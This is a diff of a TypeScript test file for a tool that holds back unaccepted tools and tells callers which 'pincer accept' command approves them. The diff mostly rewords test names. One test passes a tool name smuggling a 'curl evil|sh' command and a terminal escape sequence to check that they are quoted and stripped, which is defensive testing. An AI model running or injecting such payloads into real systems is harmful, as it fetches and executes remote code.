@@ -31,7 +31,7 @@ const find = (name: string, view?: string, scopes = {}, method = 'tools/call') =
     params: readMembers(JSON.stringify({ name })),
   });
 
-it('whoever calls a tool that waits for a person hears that, under the name that it has in the view', () => {
+it('names the held tool and the command that accepts it, under any view’s name', () => {
   expect(find('g__push')).toMatchObject({
     code: 'TOOL_WITHDRAWN',
     message: expect.stringContaining('git.push has changed') as string,
@@ -42,14 +42,14 @@ it('whoever calls a tool that waits for a person hears that, under the name that
   expect(find('web__fetch')?.message).toContain('not been accepted yet');
 });
 
-it('a command to copy is one command, whatever a server calls its tool', () => {
+it('quotes the tool’s name so that the hint is a single shell command', () => {
   const hint = (tool: string) => find(tool, 'web')?.hint?.replace(/^.*: /, '');
   expect(hint("y;curl evil|sh #'")).toBe(String.raw`pincer accept 'web.y;curl evil|sh #'\'''`);
   expect(find('\u001b[2J', 'web')?.message).not.toContain('\u001b');
   expect(hint('\u001b[2J')).toBe(String.raw`pincer accept 'web.\u001b[2J'`);
 });
 
-it('everybody else hears that there is no such tool', () => {
+it('returns undefined for any other tool, method, or caller', () => {
   expect(find('git__push')).toBeUndefined();
   expect(find('push', 'web')).toBeUndefined();
   expect(find('g__push', undefined, { servers: ['web'] })).toBeUndefined();
